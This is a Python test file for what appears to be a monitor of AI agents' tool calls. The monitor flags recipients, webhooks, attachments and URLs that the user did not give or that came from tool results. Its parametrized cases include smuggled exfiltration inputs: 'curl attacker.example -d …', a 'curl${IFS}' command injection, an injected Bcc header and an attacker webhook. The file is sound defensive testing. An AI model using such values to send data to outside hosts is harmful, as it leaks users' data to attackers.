"""Which values of a call are looked at, and which are covered, whatever shape they stand in."""

from typing import Any

import pytest

from agenthost.core.definitions import PinnedTool
from agenthost.core.manifests.trust import TrustSpec
from agenthost.core.models import Turn
from agenthost.core.parts import TextPart
from agenthost.core.tools import ToolCall
from agenthost.programs.trust.rule import Doubt, Known, effect, judge
from agenthost.programs.trust.words import Words

PERSON = "Send anna@example.com 3 of 'Lumen A4', from notes.md, and reply to Bob. Urgent!"
NONE: dict[str, Any] = {}


def doubts(
    arguments: dict[str, Any],
    parameters: dict[str, Any] = NONE,
    turns: tuple[Turn, ...] = (),
    trust: dict[str, Any] = NONE,
    said: str = PERSON,
    clean: int = 0,
    written: tuple[str, ...] = (),
    **tool: Any,
) -> list[str]:
    """The paths of what isn't covered; `""` for the decision."""
    pinned = PinnedTool(**({"name": "send_it", "description": "", "parameters": parameters} | tool))
    keys = {"list_mail": ("id", "from")}
    known = Known(Words([said]), Words(["Mail goes to desk@corp.example."]), turns, clean, written, keys=keys)
    judged = judge(pinned, arguments, TrustSpec.model_validate(trust), known, False)
    return [doubt.argument for doubt in judged.doubts]


@pytest.mark.parametrize(
    "to",
    [
        "eve@attacker.example x@corp.example",
        "eve@attacker.example\nx@corp.example",
        "eve@attacker.example@corp.example",
        "curl${IFS}a;x@corp.example",
    ],
)
def test_what_only_ends_like_an_address_that_is_allowed_is_not_allowed(to: str) -> None:
    allow = {"allow": ["*@corp.example", "@general"]}
    assert doubts({"to": "x@corp.example"}, trust=allow) == []
    assert doubts({"to": "@general"}, trust=allow) == []
    assert "to" in doubts({"to": to}, trust=allow)


@pytest.mark.parametrize("claim", ["workspace", "sandbox"])
def test_that_it_stays_in_the_workspace_is_believed_of_no_server_s_tool(claim: str) -> None:
    said: dict[str, Any] = {"name": "send", "description": "", claim: True}
    assert effect(PinnedTool(**said), False) == ""
    assert effect(PinnedTool(**said, source="mcp:mailer"), False) == "acts"


@pytest.mark.parametrize(
    ("arguments", "open"),
    [
        ({"to": "anna@example.com"}, []),
        ({"to": "Anna Berg <anna@example.com>"}, []),
        ({"to": "anna@example.com, desk@corp.example"}, []),
        ({"to": "anna@example.com, eve@attacker.example"}, ["to"]),
        ({"to": "anna@example.com\nBcc: eve@attacker.example"}, ["to"]),
        ({"to": "curl attacker.example -d anna@example.com"}, ["to"]),
        ({"to": ["anna@example.com", "eve@attacker.example"]}, ["to[1]"]),
        ({"to": "desk@corp.example"}, []),
        ({"to": "anna@example.com", "body": "eve@attacker.example"}, []),
        ({"to": "anna@example.com", "count": 3, "bcc": None, "cc": [], "silent": False}, []),
        ({"to": "anna@example.com", "count": 300}, ["count"]),
        ({"to": "anna@example.com", "urgent": True}, []),
        ({"to": "anna@example.com", "public": True}, ["public"]),
        ({"to": "anna@example.com", "item": "Lumen A4"}, []),
        ({"to": "anna@example.com", "options": {"webhook": "https://attacker.example"}}, ["options.webhook"]),
        ({"to": "anna@example.com", "attachments": ["notes.md"]}, []),
        ({"to": "anna@example.com", "attachments": ["secret.md"]}, ["attachments[0]"]),
    ],
)
def test_what_a_call_reaches_must_be_covered_and_what_it_says_need_not(
    arguments: dict[str, Any], open: list[str]
) -> None:
    assert [path for path in doubts(arguments) if path] == open


def test_files_of_the_work_s_own_may_be_sent_and_are_no_addresses() -> None:
    own = ("out.md", "eve@attacker.example", "https://attacker.example/x")
    assert doubts({"to": "anna@example.com", "attachments": ["out.md"]}, written=own) == []
    assert "to" in doubts({"to": "eve@attacker.example"}, written=own)
    assert "path" in doubts({"path": "https://attacker.example/x"}, written=own)


def test_a_schema_s_references_are_followed_and_its_defaults_are_the_tool_s_own() -> None:
    message = {"type": "object", "properties": {"to": {"type": "string"}, "text": {"type": "string"}}}
    parameters = {
        "properties": {"message": {"anyOf": [{"type": "null"}, {"$ref": "#/$defs/M"}]}},
        "$defs": {"M": message},
    }
    assert doubts({"message": {"to": "eve@attacker.example", "text": "x"}}, parameters)[0] == "message.to"
    assert doubts({"message": {"to": "anna@example.com", "text": "x"}}, parameters) == []
    parameters = {"properties": {"to": {"default": "eve@attacker.example"}}}
    assert "to" not in doubts({"to": "eve@attacker.example"}, parameters)
    assert "to" in doubts({"to": "eve@attacker.example"}, parameters, source="mcp:x")


def test_a_key_that_no_schema_names_is_a_value() -> None:
    parameters = {"properties": {"options": {"type": "object", "properties": {"a": {}}}}}
    assert "options.the code is 9" in doubts({"options": {"the code is 9": "Lumen A4"}}, parameters)


@pytest.mark.parametrize(
    ("tool", "trust", "open"),
    [({"targets": ("body",)}, {}, ["body"]), ({"targets": ("body",)}, {"targets": {"send_it": ["to"]}}, ["to"])],
)
def test_what_a_tool_or_the_manifest_declares_is_what_is_looked_at(
    tool: dict[str, Any], trust: dict[str, Any], open: list[str]
) -> None:
    found = doubts({"to": "eve@attacker.example", "body": "x9"}, trust=trust, **tool)
    assert [path for path in found if path] == open


def listed(rows: str, arguments: str = "{}") -> tuple[Turn, ...]:
    """A list of mails that was asked for."""
    call = Turn("assistant", calls=(ToolCall("c", "list_mail", arguments),))
    return call, Turn("tool", (TextPart(rows),), call_id="c", name="list_mail", origin="the result of list_mail")


BOB = '{"id": "m-7", "from": "Bob Miller <bob@x.example>", "subject": "hi"}'
EVE = '{"id": "m-8", "from": "eve@attacker.example", "subject": "Bob"}'


@pytest.mark.parametrize(
    ("rows", "clean", "arguments", "covered"),
    [
        (f"[{BOB}, {EVE}]", 1, "{}", True),
        (f'{{"mails": [{BOB}, {EVE}]}}', 1, "{}", True),
        (f"[{BOB}]", 1, "{}", True),
        (f"[{BOB}, {BOB}]", 1, "{}", False),
        (f"[{BOB}, {EVE}]", 0, "{}", False),
        (f"[{BOB}, {EVE}]", 0, '{"limit": 1}', False),
        (f"[{BOB}, {EVE}]", 0, '{"query": "Bob"}', True),
        (f"[{BOB}, {EVE}]", 0, '{"query": "Eve"}', False),
        ("no JSON", 1, "{}", False),
    ],
)
def test_a_key_of_the_one_record_that_the_person_means_is_covered(
    rows: str, clean: int, arguments: str, covered: bool
) -> None:
    turns = listed(rows, arguments)
    assert ("id" not in doubts({"id": "m-7"}, turns=turns, clean=clean)) is covered
    assert "id" in doubts({"id": "m-8"}, turns=turns, clean=clean)


def test_a_doubt_says_where_its_value_is_from() -> None:
    pinned = PinnedTool(name="send_it", description="")
    known = Known(Words([PERSON]), Words([]), listed(f"[{EVE}]"), 0)
    judged = judge(
        pinned, {"to": "eve@attacker.example", "cc": "odd@x.example"}, TrustSpec.model_validate({}), known, False
    )
    assert judged.doubts[0] == Doubt("to", "eve@attacker.example", "from the result of list_mail")
    assert judged.doubts[1].origin == "you didn't say it, and the model put it together"


@pytest.mark.parametrize(
    ("tool", "network", "can"),
    [
        ({}, False, "acts"),
        ({"read_only": True}, False, "reads"),
        ({"workspace": True}, True, ""),
        ({"workspace": True, "sandbox": True}, False, ""),
        ({"workspace": True, "sandbox": True}, True, "runs"),
    ],
)
def test_what_a_tool_can_do_outside_its_task(tool: dict[str, Any], network: bool, can: str) -> None:
    assert effect(PinnedTool(name="x", description="", **tool), network) == can


@pytest.mark.parametrize(
    ("arguments", "open"),
    [
        ({"id": "m-8"}, []),
        ({"query": "eve"}, []),
        ({"url": "attacker.example"}, ["url"]),
        ({"query": "https://attacker.example/9"}, ["query"]),
        ({"place": "attacker.example/9"}, ["place"]),
        ({"place": "notes.md"}, []),
    ],
)
def test_what_only_reads_is_looked_at_where_it_reaches_out(arguments: dict[str, Any], open: list[str]) -> None:
    assert doubts(arguments, read_only=True) == open
